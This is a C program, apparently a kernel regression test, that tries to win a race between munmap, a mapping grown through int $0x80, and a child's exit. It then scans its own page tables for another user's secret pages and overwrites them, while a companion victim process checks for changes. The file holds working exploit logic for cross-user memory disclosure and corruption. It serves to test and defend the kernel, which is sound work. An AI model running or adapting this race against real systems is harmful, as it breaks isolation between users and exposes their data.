// SPDX-License-Identifier: GPL-2.0
/*
 * Does a process see the memory of another user that it has unmapped itself?
 *
 *   leak_unmap attack BOARD SECONDS [TRIALS]
 *   leak_unmap victim BOARD
 *
 * Each trial of the attacker: its blocks are shared with a child, which ends while a munmap of
 * them has stopped before the module takes them back (leak.h), and while a mapping that has
 * grown by int $0x80 covers them again. The end of the child maps what is the attacker's alone
 * again; the munmap goes on as soon as the first of it is mapped. In two of three trials the child
 * has little CPU time, so that this lasts. Then the victim, which another user runs, maps all of the pools that
 * it can get and writes a secret to each page. The attacker looks for it in all that its page
 * tables map, and writes there; the victim looks for changes.
 *
 * BOARD is a file that both map. Status 1 of either if something leaked.
 */
#include <sched.h>
#include <stdio.h>
#include <sys/wait.h>

#include "leak.h"

/* More than are looked at without letting go of the mapping lock once. */
#define SLOTS_MOST	40
#define PIECES_MOST	512

enum turn { ATTACKER, VICTIM_FILLS, FILLED, VICTIM_LOOKS, LOOKED, OVER };

struct board {
	volatile int turn;
	volatile unsigned int trial;
	volatile unsigned long pages, changed;
};

static struct board *board;

static uint64_t secret(unsigned int trial)
{
	return 0x5ec2e70000000000ULL | trial;
}

static uint64_t forged(unsigned int trial)
{
	return 0xf026ed0000000000ULL | trial;
}

static void board_open(const char *path)
{
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0)
		err(2, "%s", path);
	board = mmap(NULL, PAGE, RW, MAP_SHARED, fd, 0);
	if (board == MAP_FAILED)
		err(2, "mmap");
	close(fd);
}

/* Returns false when it is over. */
static bool wait_for(enum turn turn)
{
	double end = now() + 3 * PATIENCE_MS / 1000.0;

	while (board->turn != (int)turn) {
		if (board->turn == OVER)
			return false;
		if (now() > end)
			errx(2, "the other one does not come to turn %d", turn);
		usleep(500);
	}
	return true;
}

/* ---- The victim ------------------------------------------------------- */

static int victim(void)
{
	static unsigned char *pieces[PIECES_MOST];
	unsigned int nr, i;

	while (wait_for(VICTIM_FILLS)) {
		uint64_t word = secret(board->trial);

		for (nr = 0; nr < PIECES_MOST; nr++) {
			pieces[nr] = mmap(NULL, SLOT, RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (pieces[nr] == MAP_FAILED)
				break;
			for (size_t at = 0; at < SLOT; at += PAGE)
				*(volatile uint64_t *)(pieces[nr] + at) = word;
		}
		board->pages += nr * (SLOT / PAGE);
		board->turn = FILLED;
		if (!wait_for(VICTIM_LOOKS))
			break;
		for (i = 0; i < nr; i++) {
			for (size_t at = 0; at < SLOT; at += PAGE)
				board->changed += *(volatile uint64_t *)(pieces[i] + at) != word;
			munmap(pieces[i], SLOT);
		}
		board->turn = LOOKED;
	}
	return board->changed != 0;
}

/* ---- The attacker ----------------------------------------------------- */

/* What keeps the child from its CPU; no calls of its own while the munmap has stopped. */
static volatile bool spinning;
static volatile unsigned long spun;

static void *spin(void *arg)
{
	for (;;) {
		while (spinning)
			spun++;
		usleep(500);
	}
	return arg;
}

/* On one CPU: of all but the last one, or on that. */
static void pin(pthread_attr_t *attr, bool last)
{
	long nr = sysconf(_SC_NPROCESSORS_ONLN);
	cpu_set_t set;

	CPU_ZERO(&set);
	for (long i = 0; i < nr; i++)
		if (nr == 1 || (i == nr - 1) == last)
			CPU_SET((size_t)i, &set);
	if (attr)
		pthread_attr_setaffinity_np(attr, sizeof(set), &set);
	else if (sched_setaffinity(0, sizeof(set), &set))
		err(2, "sched_setaffinity");
}

static int pagemap;

static bool is_mapped(const unsigned char *addr)
{
	uint64_t entry = 0;

	if (pread(pagemap, &entry, 8, (off_t)((uintptr_t)addr / PAGE * 8)) != 8)
		err(2, "/proc/self/pagemap");
	return entry >> 63;
}

/* What of the target is mapped, and foreign; it is changed, too. */
static unsigned long look(size_t len, unsigned int trial)
{
	static uint64_t entries[SLOT / PAGE];
	unsigned long foreign = 0;

	for (unsigned char *slot = TARGET; slot < TARGET + len; slot += SLOT) {
		if (pread(pagemap, entries, sizeof(entries), (off_t)((uintptr_t)slot / PAGE * 8)) != sizeof(entries))
			err(2, "/proc/self/pagemap");
		for (size_t i = 0; i < SLOT / PAGE; i++) {
			volatile uint64_t *word = (volatile uint64_t *)(slot + i * PAGE);

			if (!(entries[i] >> 63) || (*word & ~0xffffffffULL) != (secret(0) & ~0xffffffffULL))
				continue;
			foreign++;
			*word = forged(trial);
		}
	}
	return foreign;
}

/* Each slot of the target gets a table of small pages: no mapping covers all of it. */
static void cut(size_t len, bool unmap)
{
	for (unsigned char *slot = TARGET; slot < TARGET + len; slot += SLOT) {
		uintptr_t at = (uintptr_t)slot + SLOT - PAGE;
		long ret = unmap ? call32(CALL32_MUNMAP, at, PAGE, 0, 0, 0) :
				   call32(CALL32_MPROTECT, at, PAGE, PROT_NONE, 0, 0);

		if (ret)
			errx(2, "int 0x80 %s: %ld", unmap ? "munmap" : "mprotect", ret);
	}
}

struct result {
	unsigned int trials, grown, mapped, raced, leaked;
	unsigned long foreign;
	int refused;
};

/* Of the whole target, whether the first page of each slot is mapped. */
static unsigned int count_mapped(size_t len)
{
	unsigned int nr = 0;

	for (size_t at = 0; at < len; at += SLOT)
		nr += is_mapped(TARGET + at);
	return nr;
}

static void trial(unsigned int n, struct result *r)
{
	size_t len = (16 + n % (SLOTS_MOST - 15)) * SLOT;
	struct slow_munmap s = { .len = len };
	struct grower g = { .len = len };
	int go[2], status;
	pthread_attr_t others;
	unsigned long foreign;
	unsigned int slow = n % 3;
	double end;
	pid_t pid;

	map_ours(LOW, SLOT);
	map_ours(TARGET, len);
	for (size_t at = 0; at < len; at += PAGE)
		*(volatile uint64_t *)(TARGET + at) = n;
	if (pipe2(go, O_CLOEXEC))
		err(2, "pipe");
	pid = fork();
	if (pid < 0)
		err(2, "fork");
	if (!pid) {
		char c;

		close(go[1]);
		pin(NULL, true);
		if (slow && nice(slow == 1 ? 10 : 19) == -1)
			err(2, "nice");
		if (read(go[0], &c, 1) < 0)
			err(2, "read");
		_exit(0);
	}
	close(go[0]);
	pthread_attr_init(&others);
	pin(&others, false);
	grower_start(&g, &others);
	slow_munmap_begin(&s, &others);
	r->trials++;
	r->refused = grower_grow(&g);
	if (!r->refused) {
		r->grown++;
		cut(len, n % 2);
	}
	spinning = slow != 0;
	close(go[1]);
	end = now() + 0.7;
	while (!r->refused && !is_mapped(TARGET) && now() < end)
		;
	r->mapped += !r->refused && now() < end;
	slow_munmap_go_on(&s);
	slow_munmap_end(&s);
	grower_end(&g);
	if (!r->refused && now() < end)
		r->raced += count_mapped(len) < len / SLOT;
	spinning = false;
	if (waitpid(pid, &status, 0) != pid || status)
		errx(2, "the child has ended with status %#x", status);

	board->trial = n;
	board->turn = VICTIM_FILLS;
	if (!wait_for(FILLED))
		errx(2, "the victim has ended");
	foreign = look(len, n);
	board->turn = VICTIM_LOOKS;
	if (!wait_for(LOOKED))
		errx(2, "the victim has ended");
	r->foreign += foreign;
	r->leaked += foreign != 0;
	if (munmap(LOW, SLOT + len))
		err(2, "munmap");
}

static void over(void)
{
	board->turn = OVER;
}

static int attack(double seconds, unsigned int trials)
{
	struct result r = { 0 };
	double end = now() + seconds;
	pthread_attr_t last;
	pthread_t spinner;

	/* The victim does not wait for an attacker that has failed. */
	atexit(over);
	pin(NULL, false);
	pagemap = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
	if (pagemap < 0)
		err(2, "/proc/self/pagemap");
	pthread_attr_init(&last);
	pin(&last, true);
	if (pthread_create(&spinner, &last, spin, NULL))
		errx(2, "pthread_create");
	for (unsigned int n = 0; now() < end && n < trials; n++)
		trial(n, &r);
	over();
	printf("leak_unmap: %u trials, %u grew%s%s, in %u the end of the child mapped something, in %u not all at once: "
	       "%u trials leaked, %lu pages seen; of %lu of the victim's %lu were changed\n",
	       r.trials, r.grown, r.refused ? ", the last refused: " : "", r.refused ? strerror(r.refused) : "", r.mapped,
	       r.raced, r.leaked, r.foreign, board->pages, board->changed);
	return r.leaked || board->changed;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && strcmp(argv[1], "attack") == 0) {
		board_open(argv[2]);
		return attack(atof(argv[3]), argc > 4 ? (unsigned int)atoi(argv[4]) : ~0U);
	}
	if (argc == 3 && strcmp(argv[1], "victim") == 0) {
		board_open(argv[2]);
		return victim();
	}
	errx(2, "usage: leak_unmap attack BOARD SECONDS [TRIALS] | victim BOARD");
}
